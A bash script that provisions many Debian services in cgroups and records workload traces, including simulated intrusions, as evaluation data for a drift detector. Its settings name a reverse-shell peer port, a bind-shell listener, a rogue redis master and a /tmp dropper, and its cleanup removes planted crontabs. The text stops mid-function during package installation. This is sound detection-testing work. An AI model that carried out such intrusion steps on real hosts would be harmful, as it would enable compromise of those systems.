#!/usr/bin/env bash
# tools/scripts/record-testdata.sh: records testdata/<server>/{train,normal,drift,heldout,heldout2..heldout17}.dwt and
# drift.labels.json from real Debian workloads for
# `driftwatch eval`: servers (nginx, redis, postgresql, haproxy, a Flask app under gunicorn,
# mariadb, Apache httpd with mod_php, the postfix mail server, the bind DNS server, the tomcat
# servlet container, the squid caching proxy, the vsftpd FTP server, the dovecot IMAP and
# POP3 mail store, lighttpd with PHP over FastCGI, the prometheus monitoring server with its
# time-series database, the rsyslog central log collector, the samba file server, the varnish
# caching HTTP reverse proxy, the OpenLDAP slapd directory server, PHP-FPM as a FastCGI
# application server behind a front of its own, a Node.js web application (express in a cluster
# of workers) on Debian's nodejs, RabbitMQ 3.10 as a message broker on Erlang/OTP, unbound as a
# recursive DNS resolver that stubs and forwards to authoritative servers of its own, Eclipse
# Mosquitto 2.0 as an MQTT broker for sensor gateways) and a cron-driven batch job (batch). mariadb, apache, postfix, bind, tomcat, squid, vsftpd, dovecot, lighttpd, prometheus, rsyslog, samba, varnish, slapd, phpfpm, node, rabbitmq, unbound and mosquitto, added later as unseen workload shapes, have train, normal, drift and heldout only (and mariadb heldout5, mariadb and apache heldout6, heldout7, heldout8, heldout9, heldout10, heldout11, heldout12, heldout13 and heldout14, all of them but bind, tomcat, squid, vsftpd, dovecot, lighttpd, prometheus, rsyslog, samba, varnish, slapd, phpfpm, node, rabbitmq, unbound and mosquitto heldout15, all of them but tomcat, squid, vsftpd, dovecot, lighttpd, prometheus, rsyslog, samba, varnish, slapd, phpfpm, node, rabbitmq, unbound and mosquitto heldout16, and those with <workload>_heldout17_mix heldout17): a workload records a phase after heldout only if it defines
# <workload>_<phase>_mix, and skips the others.
#
#   bash tools/scripts/record-testdata.sh [--only PHASE[,PHASE...]] [WORKLOAD...]    (root)
#
# WORKLOAD: nginx redis postgresql haproxy gunicorn batch mariadb apache postfix bind tomcat squid vsftpd dovecot lighttpd
# prometheus rsyslog samba varnish slapd phpfpm node rabbitmq unbound mosquitto (default: all); PHASE: train
# normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7 heldout8 heldout9 heldout10 heldout11
# heldout12 heldout13 heldout14 heldout15 heldout16 heldout17 (default: all twenty, in that order). `--only heldout nginx` records
# only nginx's held-out trace, leaving its other traces as they are.
#
# Each server runs from its own config and data under /srv/dw-eval/<server> (removed at the
# end), as its Debian service user, listening on 127.0.0.1 only, in its own cgroup
# dw-eval/<server> (so its workload is "dw-eval/<server>"). Load generators run outside the
# cgroup, so the traces hold only the server's behaviour. Per server (record_server):
#   train   $TRAIN_SECONDS (default 360: rate baselines need 30 buckets of 10 s): the server
#           starts inside the recording, serves traffic mix A, restarts halfway, and stops;
#   normal  the server is already running, serves traffic mix B (other URLs, keys, queries and
#           client counts), restarts in the middle, serves more of mix B;
#   drift   the server serves mix A; in the middle, something inside its cgroup does what an
#           intruder would (<server>_inject); drift.labels.json lists what was injected;
#   heldout $HELDOUT_SECONDS (default 60), its own run after the others, from a fresh
#           provisioning (a redeploy): the normal variation a production service shows and
#           training never did (<server>_heldout_*: content, keyspaces or databases never
#           used, clients from other loopback addresses, log rotation, scheduled jobs with
#           other arguments, more load) and a restart. No attack. These traces are held out:
#           the engine's rules and thresholds are never chosen by looking at them.
#   heldout2 $HELDOUT2_SECONDS (default 75; batch 15 s less, its rounds include the wait for
#           the next run), a second held-out set recorded after the rules
#           were fixed, again from a fresh provisioning, with variation of other kinds than
#           heldout's (<server>_heldout2_*): a release deployed on the provisioning side
#           (new content, new databases or keyspaces, other feeds), other client addresses
#           (127.0.0.21 and up), quiet and busy rounds at irregular intervals, the scheduled
#           jobs with other arguments, an operator running the service's own CLI tools inside
#           its cgroup (as `kubectl exec` does) and a config reload, then a restart. No attack.
#   heldout3 about 65-80 s (18, 12 and 10 s of rounds, 15 s idle, a burst, 8 s more), a third
#           held-out set recorded after the rules were fixed (2026-12-03), again from a fresh
#           provisioning, with variation of other kinds than heldout's and heldout2's
#           (<server>_heldout3_*): clients from 127.0.1.10-59 (another /24), short-lived
#           connections (one request each) first and keep-alive ones after the crash; error
#           paths (missing paths, bad and refused requests, failed logins, syntax errors,
#           clients that disconnect mid-request), large requests and downloads; a worker (or
#           the whole server) killed with SIGKILL and respawned by its master (or its service
#           manager); a graceful reload (HUP or USR2 from outside) with a changed but valid
#           configuration or code; the service's own maintenance commands; then 15 s of no
#           traffic at all and a burst. No restart, no attack.
#   heldout4 about 75-90 s, a fourth held-out set recorded on 2026-12-03 with the rules unchanged
#           since heldout3, again from a fresh provisioning, with variation of other kinds,
#           amounts, orders and timing than the three before (<server>_heldout4_*): clients
#           from 127.0.2.100-199 (another /24), 1 to 6 requests per connection; the load ramped
#           up round by round (1 to 48 connections at a time, or a batch run's size), then a
#           change (a maintenance window, a scale-out, settings changed live, a schema
#           migration, catch-up runs), 28 s of trickle (one connection, rounds 3 s apart) with
#           the service's own maintenance in the middle, a 14 s peak (32 at a time, 0.5 s
#           apart), a ramp down (rounds 2 s apart, as in the ramp up) and the end of the change (a scale-in). No restart, no attack.
#   heldout5 about 70-85 s, a fifth held-out set recorded on 2026-12-03 (mariadb included),
#           again from a fresh provisioning, with variation of other kinds, amounts, orders
#           and timing than the four before (<server>_heldout5_*): clients from
#           127.0.3.1-250 (another /24); 14 s of steady rounds (6 connections at a time, 2
#           requests each, 1.5 s apart), a change (a graceful reload with another valid
#           configuration, settings changed live, a zero-downtime upgrade, overlapping
#           runs), 12 s heavier (12 at a time, 8 requests each, 1 s apart), the service's
#           own maintenance, a 24 s lull with only a health probe every 4 s, a burst of 5
#           rounds back to back (24 at a time), a late event (the change reverted, or a
#           crash and restart), and a 10 s tail (3 at a time, one request each, 2 s apart);
#           error paths and large requests in every stretch, one kind per round in turn.
#           No attack.
#   heldout6 about 70 s, a sixth held-out set recorded on 2026-12-03 (all eight workloads),
#           again from a fresh provisioning, with variation of other kinds, amounts, orders
#           and timing than the five before (<server>_heldout6_*): clients from
#           127.0.4.1-200 (another /24); 10 s of keep-alive rounds (2 connections at a
#           time, 12 requests each, 0.7 s apart), a change (a reload with another valid
#           configuration, settings changed live, a catalogue import by the operator, a
#           second scheduled job), 12 s of short-lived connections (20 at a time, one
#           request each, 1.2 s apart), the service's own maintenance,
#           HELDOUT6_IDLE_SECONDS (default 30 s) of no traffic at all, a burst of 4 rounds
#           back to back (40 at a time), a late event (a scale-in during a slow download, a
#           read replica attaching, a session ended or a query killed by the DBA, limits
#           set at runtime, slow clients, a run meeting a file it cannot read, a worker
#           killed with SIGKILL), and a 14 s tail (4 at a time, 4 requests each, 2.5 s apart);
#           error paths and large requests in every round, one kind per round in turn.
#           No attack.
#   heldout7 about 70 s, a seventh held-out set recorded on 2026-12-03 (all eight
#           workloads), again from a fresh provisioning, with variation of other kinds,
#           amounts, orders and timing than the six before (<server>_heldout7_*): clients
#           from 127.0.5.1-240 (another /24); 12 s of rounds 1 s apart that alternate a
#           crawler (one connection, 20 requests) and a fan-out (16 connections, one request
#           each); the service's own maintenance early; 8 s of steady rounds (8 at a time, 3
#           requests each); a quiet period of 2 x HELDOUT7_QUIET_SECONDS (default 10 s) with
#           no traffic and the change in its middle (a reload with another valid
#           configuration, a migration, settings changed live, a static release, a new
#           version of the job); a burst of 6 rounds 0.3 s apart (24 at a time, 4 each); a
#           late event (a file replaced during downloads, a rebuilt cache swapped in, an
#           archival job, a server added at runtime, clients syncing after an outage, a
#           catch-up run, a snapshot lock, a newsletter's sign-ins); a 16 s tail (3 at a
#           time, 6 each, 1.5 s apart); error paths and large requests in every round, one
#           kind per round in turn.
#           No attack.
#   heldout8 about 55 s, an eighth held-out set recorded on 2026-12-03 (all eight workloads),
#           again from a fresh provisioning, with variation of other kinds, amounts, orders
#           and timing than the seven before (<server>_heldout8_*): clients from
#           127.0.6.1-250 (another /24); HELDOUT8_IDLE_SECONDS (default 16 s) of no traffic
#           right after the start, then a burst of 8 rounds back to back (32 short-lived
#           connections at a time, one request each; batch: 4 runs); 12 s of keep-alive
#           rounds (4 at a time, 8 requests each, 0.8 s apart; a batch round waits 3-4 s for
#           the next run); the service's own maintenance (a log
#           rotation, a backup, a schema-only dump, the job with other arguments); a change (a
#           reload with another valid configuration, a code release, a migration with a
#           trigger, settings changed live and rewritten, a new version of the job); 14 s of
#           a sawtooth (2, 6 and 12 connections in turn, 3 requests each, 1.1 s apart); a
#           late event (a worker killed with SIGKILL during downloads or uploads, a mass
#           expiry, a backup restored into a new database, a server moved at runtime, files
#           re-sent, a table rotated, a session purge); an 8 s tail (2 at a time, 4 each, 2 s apart); error
#           paths and large requests in every round, one kind per round in turn.
#           No attack.
#   heldout9 about 60 s, a ninth held-out set recorded on 2026-12-03 (all eight workloads),
#           again from a fresh provisioning, with variation of other kinds, amounts, orders
#           and timing than the eight before (<server>_heldout9_*): clients from
#           127.0.7.1-250 (another /24); a 10 s cold start of short-lived connections (10 at
#           a time, one request each, 1.2 s apart); the service's own maintenance (a build
#           listing, a log moved into an archive directory, a schema-only dump, a server-side
#           export, the job with other arguments); 14 s of long keep-alive rounds (3 at a
#           time, 12 requests each, 0.9 s apart); a change (a reload with another valid
#           configuration, a code release, a migration with a generated column, settings
#           changed live, a new version of the job); HELDOUT9_IDLE_SECONDS (default 22 s) of
#           no traffic at all; a burst of 10 rounds back to back (20 at a time, 2 each;
#           batch: 3 runs); a late event (an episode published and fetched in ranges by 16
#           players, a big set dropped lazily, a price update, the API server out for a
#           deploy, a log rotation, a run with a stale argument, a graceful server restart, a
#           full restart); an 8 s tail (5 at a time, 5 each, 1.6 s apart); error paths and
#           large requests in every round, one kind per round in turn.
#           No attack.
#   heldout10 about 50-60 s, a tenth held-out set recorded on 2026-12-03 (all eight workloads),
#           again from a fresh provisioning, with variation of other kinds, amounts, orders
#           and timing than the nine before (<server>_heldout10_*): clients from
#           127.0.8.1-250 (another /24); 12 s of busy opening rounds (4 connections at a
#           time, 5 requests each, 0.6 s apart); the change early (a reload with another
#           valid configuration, a code or job release, a migration, settings changed live);
#           14 s of medium rounds (12 at a time, 2 each, 0.9 s apart); a late event (content
#           published or grown, a restart by the service manager, weights and health checks
#           changed at runtime, a retention or purge job, overlapping runs);
#           HELDOUT10_IDLE_SECONDS (default 12 s) of no traffic at all; a burst of 5 rounds
#           0.2 s apart (48 at a time, one each; batch: 2 runs); the service's own
#           maintenance late (a log reopened, a backup of one table or of the snapshot, the
#           stats socket, the binary logs purged, the job with other arguments); a 10 s
#           keep-alive tail (2 at a time, 10 each, 1.3 s apart); error paths and large
#           requests in every round, one kind per round in turn.
#           No attack.
#   heldout11 about 60-70 s, an eleventh held-out set recorded on 2026-12-04 (all eight
#           workloads), again from a fresh provisioning, with variation of other kinds,
#           amounts, orders and timing than the ten before (<server>_heldout11_*): clients
#           from 127.0.9.1-250 (another /24); a slow ramp (1, 2, 4, 8 and 16 connections at
#           a time, 3 s each, 3 requests per connection, 0.6 s apart; batch: one run each);
#           the service's own maintenance early (an error log reopened, the memory of the
#           biggest keys, the roles dumped, the admin socket's other commands, a binary log
#           read back, the job with other arguments); 10 s of steady rounds (6 at a time, 2
#           each, 1 s apart); a change in the middle (an included snippet with a second
#           virtual host, keyspace notifications and a function library, a reporting schema
#           with a view, a function and a role, an ACL file and a host map, a settings file
#           edited and re-read, a new feed type, a stored procedure and a report account, an
#           .htaccess section); 10 s of rounds after it (3 at a time, 4 each, 1.2 s apart);
#           HELDOUT11_IDLE_SECONDS (default 15 s) of no traffic at all; a late event (a
#           cache warm-up, a restart by SIGINT, a hard stop or the server's own tool, a run
#           stopped by the scheduler's timeout and retried, an error log rotation); an 8 s
#           tail (5 at a time, one each, 1.5 s apart); error paths and large requests in
#           every round, one kind per round in turn.
#           No attack.
#   heldout12 about 60-70 s, a twelfth held-out set recorded on 2026-12-04 (all eight
#           workloads), again from a fresh provisioning, with variation of other kinds,
#           amounts, orders and timing than the eleven before (<server>_heldout12_*): clients
#           from 127.0.10.1-250 (another /24); a busy start (10 connections at a time, 3
#           requests each, 0.5 s apart) with the change applied 4 s in while the clients
#           run (basic authentication and a rewrite, settings changed live, a partitioned
#           table, a rate table in the frontend, a code release, a release that writes a
#           checksum manifest, an instant column and the slow log, a release header and
#           keep-alive limits); two bursts (30 connections at a time, one request each) with
#           6 s of quiet after each; the service's own maintenance in the middle (a
#           copytruncate log rotation and a config test, a key scan and the doctors, an
#           index and heap check and a freeze, the admin socket's other commands, the job
#           with other arguments, a gzip and checksum check, a table check and optimize, a
#           module dump); two more bursts; a 15 s trickle (one connection, one request,
#           1 s apart); a late event (a password file rotated, a data import, a setting or
#           the configuration or the release rolled back, a second worker pool, accounts
#           imported); a 6 s tail (8 at a time, 2 each, 0.8 s apart); error paths and large
#           requests in every round, one kind per round in turn.
#           No attack.
#   heldout13 about 40 s, a thirteenth held-out set recorded on 2026-12-04 (all eight
#           workloads), again from a fresh provisioning, with variation of other kinds,
#           amounts, orders and timing than the twelve before (<server>_heldout13_*): clients
#           from 127.0.11.1-250 (another /24); the service's own maintenance at the very
#           start (the configuration dumped, memory and command statistics, an index rebuilt,
#           the admin socket's server and thread views, the job with other arguments, a
#           listing of the spool and logs, a table analysed and the tables listed, the cron
#           job with other arguments); 14 s of steady medium rounds (6 at a time, 2 each, 1 s
#           apart); a restart in the middle (a fast, smart, hard, quick or graceful stop and
#           a start; redis and mariadb crash with SIGKILL and recover; batch: the scheduler
#           skips a period); 12 s more of steady rounds; a change late (a new directory of
#           content with a listing, an application user with a password that is changed at
#           once, a database role with a password changed at once, a new log format and a
#           monitor page, a directory of guides, a cron entry with new arguments, a new
#           database account with a password changed at once, a new log format); 4 s of
#           rounds; HELDOUT13_IDLE_SECONDS (default 6 s) of no traffic; a final flood (64
#           connections at a time, one request each, three rounds); error paths and large
#           requests in every round, one kind per round in turn.
#           No attack.
#   heldout14 about 50 s, a fourteenth held-out set recorded on 2026-12-04 (all eight
#           workloads), again from a fresh provisioning, with variation of other kinds,
#           amounts, orders and timing than the thirteen before (<server>_heldout14_*):
#           clients from 127.0.12.1-250 (another /24); a gradual ramp of load over the whole
#           trace (1 to 12 connections at a time, 1-3 requests each in turn, irregular
#           pauses of 0.3-2.1 s; batch: rows per run, 2 s more per pause); the change early,
#           8 s in (a new upstream behind a new location, the log made verbose, a schema
#           with other data types, the worker's thread count, the upstream's new feed
#           format, a table with other data types); the service's own maintenance in the
#           middle while the load goes on (a build check, a snapshot pulled by the backup host, a backup of
#           the new schema and its statistics, the admin socket's other commands, the job
#           with other arguments, the virtual hosts listed); a graceful reload late (HUP,
#           USR1 or USR2 with the configuration unchanged, a setting added and re-read, the
#           grant tables reloaded; redis: the live change rewritten into its config file;
#           batch: the scheduler's table re-read); a slow tail of HELDOUT14_TAIL_SECONDS
#           (default 10 s) of three long-lived clients (keep-alive connections paced at a
#           request every ~1.2 s, sessions with a pause between commands, a rate-limited
#           pgbench; batch: a trickle of small files) instead of a flood; error paths and
#           unusual but legitimate requests in every round, one kind per round in turn.
#           No attack.
#   heldout15 about 50 s, a fifteenth held-out set recorded on 2026-12-04 (all nine
#           workloads, postfix's first after heldout), again from a fresh provisioning, with
#           variation of other kinds, amounts, orders and timing than the fourteen before
#           (<server>_heldout15_*): clients from 127.0.14.1-250 (another /24); full load from
#           the first second (9 connections at a time, 2 requests each, 0.5 s apart, 8 s;
#           batch: a run a second) with the service's own maintenance first, in it (a
#           candidate configuration tested, an append-only file check and the latency
#           histogram, orphaned large objects purged, the admin socket's errors and file
#           descriptors, the resolved settings printed and a purge, all archives but one
#           purged, the server's debug information, a queue listing as JSON and the
#           instance's check); then bursty traffic, short bursts (two rounds of 10
#           connections, one request each) between idle gaps of 2-5 s; a full stop and
#           start in the middle by the service's own control command (`nginx -s quit`,
#           `redis-cli shutdown`, `pg_ctl stop`, `mariadb-admin shutdown`, `apache2 -k
#           stop`, `postfix stop`; haproxy and gunicorn, which have none: a stop, a
#           configuration check and a start; batch: the scheduler down for 5 s); more
#           bursts; the change last (the tested configuration with a moved access log,
#           deletions freed in the background and a larger bulk limit, a tablespace, longer and shorter
#           timeouts, worker recycling, a renamed output directory, a FULLTEXT index, a
#           second virtual host, message size and recipient limits), then two more bursts;
#           one unusual but legitimate client per round in turn (pipelining, slow clients,
#           abandoned requests and uploads, very large and very small requests, unknown
#           databases, keys and recipients).
#           No attack.
#   heldout16 about 50 s, a sixteenth held-out set recorded on 2026-12-05 (all ten workloads,
#           bind's first after heldout), again from a fresh provisioning, with variation of
#           other kinds, amounts, orders and timing than the fifteen before
#           (<server>_heldout16_*): clients from 127.0.16.1-250 (another /24); a quiet start
#           of 8 s with one slow client (one connection, rounds 2 s apart; web servers: three
#           requests over one keep-alive connection at 20 kB/s; batch: a run every 3 s with
#           one file); the change early, in the first third, by the service's graceful path
#           (HUP or USR2 from outside, a graceful restart, `rndc reload`, `postfix reload`,
#           settings set live; batch: a release renamed into place): an error page and a
#           charset, latency percentiles and buffer limits, idle-transaction timeout and I/O
#           timing, request ids, keep-alive and header limits, short product addresses,
#           caches and packet limits, minimal responses and rate limiting, a new alias list, a
#           release that marks complete days; a long steady middle at moderate load (5
#           connections at a time, 2 requests each, 1 s apart, 22 s); a second change of
#           another kind two thirds in (content published under UTF-8 names, a catalogue
#           moved in key by key, an extension with a rules file, an HTTP cache, hashed
#           static assets, thumbnails, a system-versioned table, a zone signed with DNSSEC,
#           header checks that hold mail, a shorter log retention); 14 s more of it; the
#           service's own maintenance last, of other kinds than before (a configuration
#           backed up and tested from there, the host's intrinsic latency, statistics rebuilt
#           in stages and a shared reset, the cache shown and all counters cleared, the
#           bytecode cache warmed, the buffer pool dumped and loaded, included files and
#           run-time settings listed, the journal printed and the zone exported to a new
#           directory, the queue's shape and held mail released, the outputs exported);
#           then a clean shutdown inside the recording (the service manager's stop); one
#           unusual but legitimate client per round in turn (a new connection per request,
#           the same request replayed, UTF-8 and very long names, a burst of errors,
#           HEAD/OPTIONS, other protocol features: RESP3, prepared statements, cursors,
#           locking reads, BDAT, DNSSEC queries).
#           No attack.
#   heldout17 about 50 s, a seventeenth held-out set recorded on 2026-12-05 (tomcat and squid
#           included; apache, haproxy and gunicorn, and postgresql, mariadb and batch, in two
#           later runs the same day), again from a fresh provisioning, with variation of other
#           kinds, amounts, orders and timing than the sixteen before (<server>_heldout17_*):
#           clients from 127.0.19.1-250 (another /24; apache's, haproxy's and gunicorn's from
#           127.0.23.1-250, HELDOUT17_NET; postgresql's and mariadb's from 127.0.22.22, .72, .122
#           and .222, relays in 127.0.22.0/24); a cold start under load: the recording begins with the
#           server down and clients already trying (3 at a time, a round every 0.5 s), the server
#           started 2 s later inside the recording, so the first requests fail and are tried again
#           (heldout17_begin; batch: the upstream delivers the same file again until the scheduler
#           is back); the service's own maintenance early, of another kind than before (a
#           configuration check by a second JVM, the running proxy checked and its counters read,
#           the settings and services listed, the statistics file written, a staged configuration
#           tested, the keys' memory sampled; the application's scripts checked for syntax errors,
#           the proxy's statistics archived into a dated directory, the catalogue's consistency
#           checked by a new management command; the WAL's record statistics, statistics with
#           histograms collected, the archives' integrity tested); a slow wave of load (1, 2, 4, 7,
#           10, 12, 10, 7, 4 and 2 connections at a time, 2 requests each, 0.6 s apart; batch: as
#           many files a run, 2 s apart; heldout17_wave); a change in the
#           middle applied by a full restart (stop and start, not a reload) with a configuration of
#           another shape: a second listener on loopback (a compressing connector, an office port
#           from an include directory, a submission service, a second DNS listener with an included
#           ACL and zone, a status server, an included file with I/O threads) or, without a new
#           port, another shape (apache: a disk cache from two modules the package ships; haproxy:
#           servers' state carried over the restart with slow starts and a log ring; gunicorn: the
#           application preloaded into threaded workers; an include directory with a module or
#           plugins the package ships: statement statistics; a latency histogram, the SQL error log
#           and the query cache; the job run under a lock at a lower priority); the wave again, with
#           a second maintenance of another kind while the load falls (a JVM thread dump, the
#           proxy's memory pools and open files, the queue requeued, the dynamic zone frozen and thawed,
#           logs copied aside and reopened, the statistics reset and the allocator's memory purged;
#           the disk cache trimmed by its cleaner, the log ring read and the state saved again, an
#           online backup into a dated directory; the busiest statements or the latency histogram
#           exported into a new dated file and reset, a manifest of the outputs written into a new
#           dated file);
#           the recording stopped while load still runs (heldout17_end; the server stopped after
#           it). One unusual but legitimate client per round in turn (names in upper case or
#           percent-encoded, clients that send and close without reading, eight clients at once on
#           one resource, chunked request bodies, many tiny requests on one connection, uncommon but
#           valid request options; for the databases their wire protocols' equivalents: mixed-case
#           names, a login and a query sent without reading, eight sessions on one row, data
#           trickled in pieces, hundreds of tiny statements, uncommon connection options and
#           clauses).
#           No attack.
# Installs the packages with services kept from starting, and stops and disables any service
# the installation started. Every process and cgroup it creates is removed on exit.
set -euo pipefail
cd "$(dirname "$0")/../.."
ROOT=$(pwd)
BUILD_DIR=${BUILD_DIR:-build}
DW=$ROOT/$BUILD_DIR/tools/driftwatch
WORKLOAD_BIN=$ROOT/$BUILD_DIR/tools/dw_test_workload
ALL_SERVERS=(nginx redis postgresql haproxy gunicorn batch mariadb apache postfix bind tomcat squid vsftpd dovecot lighttpd prometheus rsyslog samba varnish slapd phpfpm node rabbitmq unbound mosquitto)
SERVERS=()
PHASES=(train normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7 heldout8 heldout9 heldout10 heldout11 heldout12 heldout13 heldout14 heldout15 heldout16 heldout17)
while [ $# -gt 0 ]; do
  case $1 in
    --only)
      [ $# -ge 2 ] || { echo "record-testdata: --only needs a phase list" >&2; exit 1; }
      IFS=, read -ra PHASES <<<"$2"
      shift 2 ;;
    --only=*) IFS=, read -ra PHASES <<<"${1#--only=}"; shift ;;
    -*) echo "record-testdata: unknown option '$1'" >&2; exit 1 ;;
    *) SERVERS+=("$1"); shift ;;
  esac
done
[ ${#SERVERS[@]} -gt 0 ] || SERVERS=("${ALL_SERVERS[@]}")

# Fixed paths and ports: the three traces of a server must agree on them, and the labels
# name them.
WORK=/srv/dw-eval
CG_BASE=dw-eval
SYS_PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
PG_BIN=/usr/lib/postgresql/15/bin
NGINX_PORT=18080
REDIS_PORT=16379
PG_PORT=15432
C2_PORT=14444        # the intruder's reverse-shell peer (outside the cgroup)
BIND_PORT=14445      # the intruder's bind-shell listener (inside the cgroup)
ROGUE_PORT=16380     # a rogue redis master (outside the cgroup)
HAPROXY_PORT=18480   # haproxy's frontend
HAPROXY_STATS_PORT=18481
BACKEND_PORTS=(18091 18092 18093)   # haproxy's backends (python3 http.server, outside the cgroup)
GUNICORN_PORT=18000
PG_RELAY_PORT=15433  # a relay that gives PostgreSQL clients other source addresses
DROPPER=/tmp/.dw-eval-update   # what an intruder downloads into /tmp and runs
BURST_FILES=300
TRAIN_SECONDS=${TRAIN_SECONDS:-360}
NORMAL_SECONDS=${NORMAL_SECONDS:-50}   # both halves together
MAINT_SECONDS=${MAINT_SECONDS:-45}    # how often a server's scheduled job runs in training
DRIFT_SECONDS=${DRIFT_SECONDS:-40}     # the intrusion comes at 15 s
HELDOUT_SECONDS=${HELDOUT_SECONDS:-60} # both halves together
HELDOUT_MAINT_SECONDS=${HELDOUT_MAINT_SECONDS:-20}
HELDOUT2_SECONDS=${HELDOUT2_SECONDS:-75}
HELDOUT2_MAINT_SECONDS=${HELDOUT2_MAINT_SECONDS:-25}

die() { echo "record-testdata: $*" >&2; exit 1; }
say() { printf '\n== %s\n' "$*" >&2; }

[ "$(id -u)" -eq 0 ] || die "needs root (eBPF, cgroups, service users)"
CG_MOUNT=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
[ -n "$CG_MOUNT" ] || die "no cgroup2 mount in /proc/self/mountinfo"
for s in "${SERVERS[@]}"; do
  case " ${ALL_SERVERS[*]} " in *" $s "*) ;; *) die "unknown workload '$s' (${ALL_SERVERS[*]})" ;; esac
done
[ ${#PHASES[@]} -gt 0 ] || die "--only needs a phase list"
for ph in "${PHASES[@]}"; do
  case $ph in
    train | normal | drift | heldout | heldout2 | heldout3 | heldout4 | heldout5 | heldout6 | heldout7 | heldout8 | heldout9 | heldout10 | heldout11 | heldout12 | heldout13 | heldout14 | heldout15 | heldout16 | heldout17) ;;
    *) die "unknown phase '$ph' (train normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7 heldout8 heldout9 heldout10 heldout11 heldout12 heldout13 heldout14 heldout15 heldout16 heldout17)" ;;
  esac
done
want_phase() { case " ${PHASES[*]} " in *" $1 "*) return 0 ;; esac; return 1; }
WANTED_PHASES=("${PHASES[@]}")
# phases_of WORKLOAD: sets PHASES to the wanted phases WORKLOAD has: train, normal, drift, and
# each later one for which it defines <workload>_<phase>_mix (mariadb skips heldout2-4).
phases_of() {
  local ph
  PHASES=()
  for ph in "${WANTED_PHASES[@]}"; do
    case $ph in
      train | normal | drift) PHASES+=("$ph") ;;
      *)
        if declare -F "$1_${ph}_mix" >/dev/null; then PHASES+=("$ph")
        else echo "record-testdata: $1 has no $ph phase: skipped" >&2; fi ;;
    esac
  done
}

PIDS=()         # every background process started here, killed by id on exit
HOST_CLEANUP=() # functions that remove what a workload made outside $WORK (users, PAM files), run on exit
POLICY_RC_CREATED=0

# What the intruders leave outside $WORK: crontabs of the service users, the dropper.
remove_intruder_leftovers() {
  local u
  for u in www-data backup; do
    if [ -e "/var/spool/cron/crontabs/$u" ]; then crontab -r -u "$u" 2>/dev/null || true; fi
  done
  rm -f "$DROPPER"
}

cleanup() {
  set +e
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null; done
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null; done
  if [ -d "$CG_MOUNT/$CG_BASE" ]; then
    # Anything still in our cgroups was started by this script (a server's children).
    for f in "$CG_MOUNT/$CG_BASE"/*/cgroup.procs; do
      [ -f "$f" ] || continue
      while read -r p; do kill -KILL "$p" 2>/dev/null; done <"$f"
    done
    sleep 0.2
    rmdir "$CG_MOUNT/$CG_BASE"/* "$CG_MOUNT/$CG_BASE" 2>/dev/null
  fi
  [ "$POLICY_RC_CREATED" = 1 ] && rm -f /usr/sbin/policy-rc.d
  remove_intruder_leftovers
  local f
  for f in "${HOST_CLEANUP[@]:-}"; do [ -n "$f" ] && "$f"; done
  rm -rf "$WORK"
}
# One run at a time: every run shares /srv/dw-eval and the dw-eval cgroups, and its cleanup
# removes them, so two runs would destroy each other's servers and traces. Taken before the
# cleanup trap is set, so a run refused here removes nothing.
exec 9>/run/lock/driftwatch-record-testdata.lock
flock -n 9 || die "another record-testdata.sh is running (lock /run/lock/driftwatch-record-testdata.lock)"
trap cleanup EXIT

# --- installation -------------------------------------------------------------------------

install_packages() {
  local pkgs=(nginx-light redis-server redis-tools postgresql postgresql-client curl perl
              apache2-utils haproxy gunicorn python3-flask socat cron gzip mariadb-server
              mariadb-client apache2 libapache2-mod-php postfix python3 bind9 bind9-utils
              bind9-dnsutils tomcat10 openjdk-17-jre-headless squid squidclient vsftpd logrotate
              dovecot-core dovecot-imapd dovecot-pop3d dovecot-lmtpd openssl lighttpd php-cgi php-sqlite3
              prometheus jq rsyslog samba smbclient varnish gcc libc6-dev slapd ldap-utils lmdb-utils
              php8.2-fpm php8.2-sqlite3 php8.2-cli
              nodejs node-express node-morgan node-cookie-parser rabbitmq-server python3-pika
              unbound python3-dnspython mosquitto mosquitto-clients python3-paho-mqtt)
  local fresh=()
  for p in nginx-light redis-server postgresql haproxy cron mariadb-server apache2 postfix bind9 tomcat10 squid \
      vsftpd dovecot-core lighttpd prometheus rsyslog samba varnish slapd php8.2-fpm rabbitmq-server unbound \
      mosquitto; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q "install ok installed" || fresh+=("$p")
  done
  # postfix installed without a system configuration (each run writes its own instance's).
  echo "postfix postfix/main_mailer_type select No configuration" | debconf-set-selections
  # slapd installed without a directory of its own (each run writes its own instance's).
  echo "slapd slapd/no_configuration boolean true" | debconf-set-selections
  # Debian starts services from maintainer scripts unless policy-rc.d says no.
  if [ ! -e /usr/sbin/policy-rc.d ]; then
    printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d
    chmod +x /usr/sbin/policy-rc.d
    POLICY_RC_CREATED=1
  fi
  unbound_resolv_save
  if ! DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" \
      >/dev/null; then
    apt-get update >/dev/null
    DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" >/dev/null
  fi
  unbound_resolv_restore
  # Debian's nodejs (18), which finds Debian's node-* modules in /usr/share/nodejs, replaces
  # a nodejs from another repository (an image may come with nodesource's).
  if ! dpkg-query -W -f='${Version}' nodejs | grep -q dfsg; then
    DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends --allow-downgrades \
      "nodejs=$(apt-cache madison nodejs | awk '$3 ~ /dfsg/ { print $3; exit }')" >/dev/null
  fi
  # Leave no system service running, and none enabled that this script installed.
  local svc
  for p in "${fresh[@]:-}"; do
    case $p in
      nginx-light) svc=nginx ;; redis-server) svc=redis-server ;; postgresql) svc=postgresql ;;
      haproxy) svc=haproxy ;; cron) svc=cron ;; mariadb-server) svc=mariadb ;; postfix) svc=postfix ;;
      bind9) svc=named ;; squid) svc=squid ;;
      # vsftpd's postinst enables its systemd unit (and an init script).
      vsftpd) systemctl disable vsftpd >/dev/null 2>&1 || true; svc=vsftpd ;;
      # dovecot-core also has a socket unit that would start it on a connection.
      dovecot-core) systemctl disable dovecot.socket >/dev/null 2>&1 || true; svc=dovecot ;;
      # tomcat10 has a systemd unit only (enabled by its postinst).
